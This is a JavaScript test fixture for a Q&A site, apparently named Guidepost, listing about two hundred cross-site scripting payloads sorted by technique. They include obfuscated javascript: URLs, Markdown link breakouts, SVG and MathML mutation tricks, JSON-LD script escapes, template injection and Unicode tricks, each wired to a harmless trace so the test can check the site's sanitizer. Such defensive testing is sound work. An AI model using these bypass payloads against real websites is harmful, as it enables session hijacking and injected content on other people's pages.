// The hostile-input corpus for xss.test.mjs: XSS vectors written for Guidepost's own fields.
//
// Every vector, if it ever runs, leaves a trace the test watches for: it calls `__xss(id)` (a
// function the test injects into every page), opens a dialog (`alert`/`confirm`/`prompt`), fetches
// `/xss-hit/<id>` on the site, or loads a script, style, frame or page from the host
// `xss.invalid`. The ids are unique, so a failure names the vector that ran.
//
// Fields of a vector:
//   id       a unique number; the payload's trace carries it
//   group    what kind of trick it is
//   payload  the hostile text, exactly as typed into a field
//   tail     the vector may swallow whatever follows it (an unclosed <textarea>, <svg>, <!--, ...),
//            so the test puts it last in a post
//   text     it also goes into the plain-text fields (titles, names, reasons, notes, queries)
//
// Only xss.test.mjs reads this file. Add vectors freely: give each a new id and a trace.

/** `&#106;&#97;...`: every character as a decimal entity. */
const dec = (s) => [...s].map((c) => `&#${c.codePointAt(0)};`).join('');
/** `&#x6A;&#x61;...`: every character as a hex entity. */
const hex = (s) => [...s].map((c) => `&#x${c.codePointAt(0).toString(16).toUpperCase()};`).join('');
/** `&#0000106&#0000097...`: zero-padded decimal entities without semicolons. */
const padded = (s) => [...s].map((c) => `&#${String(c.codePointAt(0)).padStart(7, '0')}`).join('');
const b64 = (s) => Buffer.from(s, 'utf8').toString('base64');
/** `\u003c`-style JavaScript escapes of every character. */
const jsEscaped = (s) => [...s].map((c) => `\\u${c.codePointAt(0).toString(16).padStart(4, '0')}`).join('');

const X = (id) => `__xss(${id})`;

const raw = [
  // --- script elements --------------------------------------------------------------------------
  [1, 'script', `<script>${X(1)}</script>`, { text: true }],
  [2, 'script', '<SCRIPT SRC=https://xss.invalid/2.js></SCRIPT>'],
  [3, 'script', `<script/x src="data:text/javascript,${X(3)}"></script>`],
  [4, 'script', `<scr<script>ipt>${X(4)}</scr</script>ipt>`],
  [5, 'script', `<<script>${X(5)};//<</script>`, { text: true }],
  [6, 'script', `<script type="module">${X(6)}</script>`],
  [7, 'script', `<script>${X(7)}//`, { tail: true }],
  [8, 'script', `<ScRiPt>eval(atob('${b64(X(8))}'))</sCrIpT>`],
  [9, 'script', `<script>setTimeout('${X(9)}')</script>`],
  [10, 'script', `<script src=/xss-hit/10></script>`],

  // --- event handlers ---------------------------------------------------------------------------
  [20, 'handler', `<img src=x onerror=${X(20)}>`, { text: true }],
  [21, 'handler', `<img src="x" onerror="${X(21)}"/>`],
  [22, 'handler', `<IMG SRC=x OnErRoR=${X(22)}>`],
  [23, 'handler', `<img src=\`x\` onerror=${X(23)}>`],
  [24, 'handler', `<img src=x onerror="${dec(X(24))}">`],
  [25, 'handler', `<img src=x onerror=eval(atob('${b64(X(25))}'))>`],
  [26, 'handler', '<img src=x onerror=alert(26)>', { text: true }],
  [27, 'handler', '<img src=x onerror=confirm(27)>'],
  [28, 'handler', '<img src=x onerror=prompt(28)>'],
  [29, 'handler', '<img src=x onerror="fetch(\'/xss-hit/29\')">'],
  [30, 'handler', `<body onload=${X(30)}>`],
  [31, 'handler', `<details open ontoggle=${X(31)}>d</details>`, { text: true }],
  [32, 'handler', `<input autofocus onfocus=${X(32)}>`, { text: true }],
  [33, 'handler', `<video><source onerror=${X(33)}></video>`],
  [34, 'handler', `<audio src=x onerror=${X(34)}></audio>`],
  [35, 'handler', `<marquee onstart=${X(35)}>m</marquee>`],
  [36, 'handler', `<div onmouseover="${X(36)}">hover me</div>`],
  [37, 'handler', `<kbd onclick=${X(37)} onmouseover=${X(37)}>Ctrl</kbd>`],
  [38, 'handler', `<input type=checkbox checked autofocus onfocus=${X(38)}>`],
  [39, 'handler', `<img src="https://xss.invalid/39.png" onload=${X(39)} onerror=${X(39)}>`],
  [40, 'handler', `<x onclick=${X(40)}>custom element</x>`],
  [41, 'handler', `<input type=image src=x onerror=${X(41)}>`],
  [42, 'handler', `<isindex type=image src=x onerror=${X(42)}>`],
  [43, 'handler', `<img src=x onerror=${X(43)}//`, { tail: true }],
  [44, 'handler', `<a href="https://example.com/" onclick="${X(44)}" onfocus="${X(44)}" autofocus>a</a>`],
  [45, 'handler', `<p title="x" onpointerenter=${X(45)}>p</p>`],
  [46, 'handler', `<img src=x onerror=window['__x'+'ss'](46)>`],
  [47, 'handler', `<img src=x onerror=top.__xss(47)>`],

  // --- frames, objects, forms, meta, base -------------------------------------------------------
  [60, 'embed', `<iframe src="javascript:parent.${X(60)}"></iframe>`],
  [61, 'embed', `<iframe srcdoc="<script>parent.${X(61)}</script>"></iframe>`],
  [62, 'embed', '<iframe src="https://xss.invalid/62"></iframe>'],
  [63, 'embed', `<object data="javascript:${X(63)}"></object>`],
  [64, 'embed', `<embed src="javascript:${X(64)}">`],
  [65, 'embed', `<object data="data:text/html;base64,${b64(`<script>parent.${X(65)}</script>`)}"></object>`],
  [66, 'form', `<form action="javascript:${X(66)}"><button>go</button></form>`],
  [67, 'form', `<button formaction="javascript:${X(67)}">go</button>`],
  [68, 'form', '<form action="https://xss.invalid/68"><input name=q value=1></form>'],
  [69, 'meta', `<meta http-equiv="refresh" content="0;url=javascript:${X(69)}">`],
  [70, 'meta', '<meta http-equiv="refresh" content="0;url=/xss-hit/70">'],
  [71, 'meta', '<base href="https://xss.invalid/71/">'],
  [72, 'meta', `<base href="javascript:${X(72)}//">`],
  [73, 'meta', '<link rel="stylesheet" href="https://xss.invalid/73.css">'],
  [74, 'meta', '<link rel="import" href="https://xss.invalid/74.html">'],
  [75, 'embed', `<table background="javascript:${X(75)}"><tr><td>t</td></tr></table>`],
  [76, 'embed', `<iframe src="javascript:parent.${X(76)}">`, { tail: true }],

  // --- link and image URLs, with entity and control-character obfuscation -----------------------
  [90, 'url', `<a href="javascript:${X(90)}">plain</a>`, { text: true }],
  [91, 'url', `<a href="JaVaScRiPt:${X(91)}">case</a>`],
  [92, 'url', `<a href="  javascript:${X(92)}">spaces</a>`],
  [93, 'url', `<a href="&#14;javascript:${X(93)}">leading control</a>`],
  [94, 'url', `<a href="java&#9;script:${X(94)}">tab</a>`],
  [95, 'url', `<a href="java&#x0A;script:${X(95)}">newline</a>`],
  [96, 'url', `<a href="java&#x0D;script:${X(96)}">carriage return</a>`],
  // The classic: C0 controls between the letters, no quotes, entities without semicolons.
  [97, 'url', `<a href=java&#1&#2&#3&#4&#5&#6&#7&#8&#11&#12script:${X(97)}>controls</a>`, { text: true }],
  [98, 'url', `<a href="java&#1;&#2;&#3;&#4;&#5;&#6;&#7;&#8;&#11;&#12;&#14;&#15;&#16;&#31;&#127;script:${X(98)}">controls 2</a>`],
  [99, 'url', `<a href="${dec('javascript:')}${X(99)}">decimal</a>`],
  [100, 'url', `<a href="${hex('javascript:')}${X(100)}">hex</a>`],
  [101, 'url', `<a href=${padded('javascript:')}${X(101)}>padded</a>`],
  [102, 'url', `<a href="javascript&colon;${X(102)}">named colon</a>`],
  [103, 'url', `<a href="jav&Tab;ascript:${X(103)}">named tab</a>`],
  [104, 'url', '<a href="vbscript:msgbox(104)">vbscript</a>', { text: true }],
  [105, 'url', `<a href="data:text/html;base64,${b64(`<script>${X(105)}</script>`)}">data</a>`],
  [106, 'url', `<a href="data:text/html,<script>${X(106)}</script>">data 2</a>`],
  [107, 'url', `<a href="javascript\uFF1A${X(107)}">fullwidth colon</a>`],
  [108, 'url', `<a href="java\u200Bscript:${X(108)}">zero-width</a>`],
  [109, 'url', `<a href="\u0001javascript:${X(109)}">raw control</a>`],
  [110, 'url', `<a href="java\u0001script:${X(110)}">raw control 2</a>`],
  [111, 'url', `<a href="javascript://%0a${X(111)}">comment newline</a>`],
  [112, 'url', `<a href="/x?&quot;&gt;&lt;img src=x onerror=${X(112)}&gt;">relative</a>`],
  [113, 'url', `<a href="https://example.com/" title="&quot; onmouseover=${X(113)} x=&quot;">title</a>`],
  [114, 'url', `<IMG SRC=JaVaScRiPt:${X(114)}>`],
  [115, 'url', `<img src="https://x&#x22; onerror=${X(115)}">`],
  [116, 'url', `<img src="https://xss.invalid/116.png" alt="&quot; onerror=&quot;${X(116)}">`],
  [117, 'url', `<a href="javascript:${X(117)}"`, { tail: true }],
  [118, 'url', `<svg><a xlink:href="javascript:${X(118)}"><text x=20 y=20>s</text></a></svg>`],
  [119, 'url', `<math><a xlink:href="javascript:${X(119)}">m</a></math>`],
  [120, 'url', `<math href="javascript:${X(120)}">m</math>`],
  [121, 'url', `<a href="&#x6A;avascript&#x3A;${X(121)}">mixed</a>`],
  [122, 'url', `<a href="java\tscript:${X(122)}">raw tab</a>`],
  // Control characters in URLs that are not javascript: at all: they must not reach the page either.
  [123, 'url', '<img src="https://xss.invalid/123&#1;.png" alt="control in an image URL">'],
  [124, 'url', '<a href="/questions/1&#9;x&#1;y">control in a relative link</a>'],

  // --- Markdown links and images ----------------------------------------------------------------
  [140, 'markdown', `[md link](javascript:${X(140)})`, { text: true }],
  [141, 'markdown', `[md caps](JAVASCRIPT:${X(141)})`],
  [142, 'markdown', `[md angle](<javascript:${X(142)}>)`],
  [143, 'markdown', `[md tab](java&#x09;script:${X(143)})`],
  [144, 'markdown', `[md entity](&#106;avascript:${X(144)})`],
  [145, 'markdown', `<javascript:${X(145)}>`],
  [146, 'markdown', `![md image](javascript:${X(146)})`],
  [147, 'markdown', `![x](https://xss.invalid/147.png"onerror="${X(147)})`],
  [148, 'markdown', `[breakout](https://example.com/"onmouseover="${X(148)})`],
  [149, 'markdown', `[ref link][r149]\n\n[r149]: javascript:${X(149)}`],
  [150, 'markdown', `![t](https://xss.invalid/150.png "a\\" onerror=\\"${X(150)}")`],
  [151, 'markdown', `[t](https://example.com/ "<img src=x onerror=${X(151)}>")`],
  [152, 'markdown', `\`<img src=x onerror=${X(152)}>\` in a code span`, { text: true }],
  [153, 'markdown', `\`\`\`html\n<script>${X(153)}</script>\n</code></pre><img src=x onerror=${X(153)}>\n\`\`\``],
  [154, 'markdown', `<https://example.com/"onmouseover="${X(154)}>`],
  [155, 'markdown', `[md data](data:text/html;base64,${b64(`<script>${X(155)}</script>`)})`],
  [156, 'markdown', `[md vb](vbscript:msgbox(156))`],
  [157, 'markdown', `- [ ] <input type=checkbox onclick=${X(157)}> task`],
  [158, 'markdown', `\`\`\`x" onmouseover="${X(158)}\ncode\n\`\`\``],
  [159, 'markdown', `| a | b |\n|---|---|\n| <img src=x onerror=${X(159)}> | [c](javascript:${X(159)}) |`],
  [160, 'markdown', `> <img src=x onerror=${X(160)}>\n> [q](javascript:${X(160)})`],
  [161, 'markdown', `[md spaces]( javascript:${X(161)} )`],
  [162, 'markdown', `[md ctrl](java%01script:${X(162)})`],
  [163, 'markdown', `[md raw ctrl](<java\u0001script:${X(163)}>)`],
  [164, 'markdown', `![md image ctrl](<https://xss.invalid/164\u0001.png>)`],

  // --- SVG, MathML and parser differentials (mXSS) ----------------------------------------------
  [180, 'svg', `<svg onload=${X(180)}>`, { tail: true }],
  [181, 'svg', `<svg/onload=${X(181)}>`, { tail: true, text: true }],
  [182, 'svg', `<svg><script>${X(182)}</script></svg>`],
  [183, 'svg', `<svg><animate onbegin=${X(183)} attributeName=x dur=1s></animate></svg>`],
  [184, 'svg', `<svg><set attributeName=onmouseover to=${X(184)}></set></svg>`],
  [185, 'svg', `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${X(185)}"/></svg>`)}#x"></use></svg>`],
  [186, 'svg', `<svg><foreignObject><img src=x onerror=${X(186)}></foreignObject></svg>`],
  [187, 'mxss', `<math><mtext><table><mglyph><style><img src=x onerror=${X(187)}>`, { tail: true }],
  [188, 'mxss', `<noscript><p title="</noscript><img src=x onerror=${X(188)}>">`],
  [189, 'mxss', `<svg></p><style><a id="</style><img src=1 onerror=${X(189)}>">`, { tail: true }],
  [190, 'mxss', `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${X(190)} src>">`, { tail: true }],
  [191, 'mxss', `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${X(191)} src=1>">`, { tail: true }],
  [192, 'mxss', `<svg><style><img src=x onerror=${X(192)}></style></svg>`],
  [193, 'mxss', `<!--<img src=x onerror=${X(193)}>-->`],
  [194, 'mxss', `<!--><img src=x onerror=${X(194)}>-->`],
  [195, 'mxss', `<![CDATA[><img src=x onerror=${X(195)}>]]>`],
  [196, 'mxss', `<? ><img src=x onerror=${X(196)}> ?>`],
  [197, 'mxss', `<!-- <img src=x onerror=${X(197)}>`, { tail: true }],
  [198, 'mxss', `<xmp><img src=x onerror=${X(198)}></xmp>`],
  [199, 'mxss', `<noembed><img src=x onerror=${X(199)}></noembed>`],
  [200, 'mxss', `<template><img src=x onerror=${X(200)}></template>`],
  [201, 'mxss', `<textarea><img src=x onerror=${X(201)}>`, { tail: true }],
  [202, 'mxss', `<title><img src=x onerror=${X(202)}>`, { tail: true }],
  [203, 'mxss', `<plaintext><img src=x onerror=${X(203)}>`, { tail: true }],
  [204, 'mxss', `<select><template><style><img src=x onerror=${X(204)}></style></template></select>`],

  // --- breaking out of the markup the text lands in ---------------------------------------------
  [220, 'breakout', `"><img src=x onerror=${X(220)}>`, { text: true }],
  [221, 'breakout', `'><img src=x onerror=${X(221)}>`, { text: true }],
  [222, 'breakout', `" autofocus onfocus="${X(222)}" x="`, { text: true }],
  [223, 'breakout', `' autofocus onfocus='${X(223)}' x='`, { text: true }],
  [224, 'breakout', `</textarea><img src=x onerror=${X(224)}>`, { text: true }],
  [225, 'breakout', `</title><img src=x onerror=${X(225)}>`, { text: true }],
  [226, 'breakout', `</script><script>${X(226)}</script>`, { text: true }],
  [227, 'breakout', `</style><img src=x onerror=${X(227)}>`, { text: true }],
  [228, 'breakout', `</noscript><img src=x onerror=${X(228)}>`, { text: true }],
  [229, 'breakout', `</code></pre><img src=x onerror=${X(229)}>`, { text: true }],
  [230, 'breakout', `--><img src=x onerror=${X(230)}>`, { text: true }],
  [231, 'breakout', `]]><img src=x onerror=${X(231)}>`, { text: true }],
  [232, 'breakout', `</option></select><img src=x onerror=${X(232)}>`, { text: true }],
  [233, 'breakout', `</a><a href=javascript:${X(233)}>x</a>`, { text: true }],
  [234, 'breakout', `</p></div></main><img src=x onerror=${X(234)}>`],
  [235, 'breakout', `\`); ${X(235)}; //`, { text: true }],
  [236, 'breakout', `'; ${X(236)}; '`, { text: true }],
  [237, 'breakout', `"; ${X(237)}; "`, { text: true }],
  [238, 'breakout', `&quot;&gt;&lt;img src=x onerror=${X(238)}&gt;`, { text: true }],
  [239, 'breakout', `&lt;script&gt;${X(239)}&lt;/script&gt;`, { text: true }],
  [240, 'breakout', `%3Cscript%3E${X(240)}%3C%2Fscript%3E`, { text: true }],
  [241, 'breakout', `%22%3E%3Cimg%20src%3Dx%20onerror%3D${X(241)}%3E`, { text: true }],
  [242, 'breakout', `</desc></svg><img src=x onerror=${X(242)}>`, { text: true }],
  [243, 'breakout', `</ins></del></pre><img src=x onerror=${X(243)}>`, { text: true }],

  // --- JSON-LD (the question page's <script type="application/ld+json">) ------------------------
  [260, 'json-ld', `</script><script>${X(260)}</script>`, { text: true }],
  [261, 'json-ld', `"}]}</script><script>${X(261)}</script>`, { text: true }],
  [262, 'json-ld', `\u2028\u2029</SCRIPT ><script>${X(262)}</script>`],
  [263, 'json-ld', `${jsEscaped('</script>')}<script>${X(263)}</script>`, { text: true }],
  [264, 'json-ld', `<!--<script>${X(264)}</script>-->`, { text: true }],
  // In Markdown `<\/script>` is an escaped slash, so the <script> stays open: it swallows what follows.
  [265, 'json-ld', `"},"@type":"x","x":"<\\/script><script>${X(265)}<\\/script>`, { text: true, tail: true }],
  [266, 'json-ld', `</scRipt\t><script>${X(266)}</script>`],

  // --- template injection: must show literally, never evaluate ----------------------------------
  [280, 'template', '{{ 1337*1337 }} {{__xss(280)}}', { text: true }],
  [281, 'template', '{% raw %}{% endraw %}{% include "base.html" %}{{ csrf_token }}', { text: true }],
  [282, 'template', '{{ config }}{{ site_name | safe }}{# comment #}', { text: true }],
  [283, 'template', "{{constructor.constructor('__xss(283)')()}}", { text: true }],
  [284, 'template', '${__xss(284)} #{__xss(284)} <%= __xss(284) %>', { text: true }],
  [285, 'template', `{% set x = "<img src=x onerror=${X(285)}>" %}{{ x | safe }}`, { text: true }],

  // --- CSS -------------------------------------------------------------------------------------
  [300, 'css', `<div style="background:url(javascript:${X(300)})">css url</div>`],
  [301, 'css', `<div style="width:expression(${X(301)})">expression</div>`],
  [302, 'css', `<style>@import 'https://xss.invalid/302.css';</style>`],
  [303, 'css', `<style>body{background:url("javascript:${X(303)}")}</style>`],
  [304, 'css', '<p style="behavior:url(https://xss.invalid/304.htc)">behavior</p>'],
  [305, 'css', `<div style="x:e\\xpression(${X(305)})">escaped expression</div>`],
  [306, 'css', '<p style="background-image:url(https://xss.invalid/306.png)">bg</p>'],
  [307, 'css', '<style>*{background:url(/xss-hit/307)}</style>'],
  [308, 'css', `<style>@import url(https://xss.invalid/308.css)`, { tail: true }],

  // --- Unicode and RTL tricks ------------------------------------------------------------------
  [320, 'unicode', `\u202Egnp.exe\u202C <img src=x onerror=${X(320)}>`, { text: true }],
  [321, 'unicode', `\uFF1Cscript\uFF1E${X(321)}\uFF1C/script\uFF1E`, { text: true }],
  [322, 'unicode', `<scr\u200Bipt>${X(322)}</scr\u200Bipt>`, { text: true }],
  [323, 'unicode', `\u202E>tpircs/<)323(ssx__>tpircs<`, { text: true }],
  [324, 'unicode', `\uFEFF<img src=x onerror=${X(324)}>\u2066\u2067\u2068\u2069`, { text: true }],
  [325, 'unicode', `<img src=x onerror\u3000=${X(325)}>`],
  [326, 'unicode', `\u0131\u017F <ſcript>${X(326)}</ſcript> \u212A`, { text: true }],
  [327, 'unicode', `\uD83D\uDE00<img src=x onerror=${X(327)}>\uFFFD`],
];

/** The corpus, each vector as `{ id, group, payload, tail, text }`. */
export const VECTORS = raw.map(([id, group, payload, opts = {}]) => ({
  id, group, payload, tail: Boolean(opts.tail), text: Boolean(opts.text),
}));

// Ids must be unique, and a vector must carry its own id in its trace (or a dialog/fetch number).
{
  const seen = new Set();
  for (const v of VECTORS) {
    if (seen.has(v.id)) throw new Error(`xss-corpus: id ${v.id} is used twice`);
    seen.add(v.id);
  }
}

/**
 * Display names (2 to 50 characters, no control characters): each test member gets one.
 * Ids 1001 and up.
 */
export const DISPLAY_NAMES = [
  `"><img src=x onerror=${X(1001)}>`,
  `</script><script>${X(1002)}</script>`,
  `<svg/onload=${X(1003)}>{{ 7*7 }}`,
  `</title><img src=x onerror=${X(1004)}>`,
  `' onmouseover='${X(1005)}' x='\u202E`,
];

/** Usernames tried at sign-up: the rules refuse them all, and the form must say so cleanly. */
export const USERNAMES = [
  `<img src=x onerror=${X(1101)}>`,
  `"><script>${X(1102)}</script>`,
  `javascript:${X(1103)}`,
];

/** Tags tried on the ask form: refused, with the offending tag quoted back in the error. */
export const TAGS = [
  `<script>${X(1201)}</script>`,
  `"><img/src=x/onerror=${X(1202)}>`,
  `javascript:${X(1203)}`,
  `{{${X(1204)}}}`,
];

/**
 * Email addresses. Only mailboxes the mail worker can send to are accepted. The first is one:
 * quotes, ampersands and entities without their semicolons (which a browser would still decode)
 * must read back as typed on the settings page and to admins. The other two are refused and must
 * stay in the field as typed.
 */
export const EMAILS = [
  `o'neil&amp&ltb&gt=/{x}|\`~@example.com`,
  `x@example.com"><script>${X(1302)}</script>`,
  `"\\"><svg/onload=${X(1303)}>"@example.com`,
];
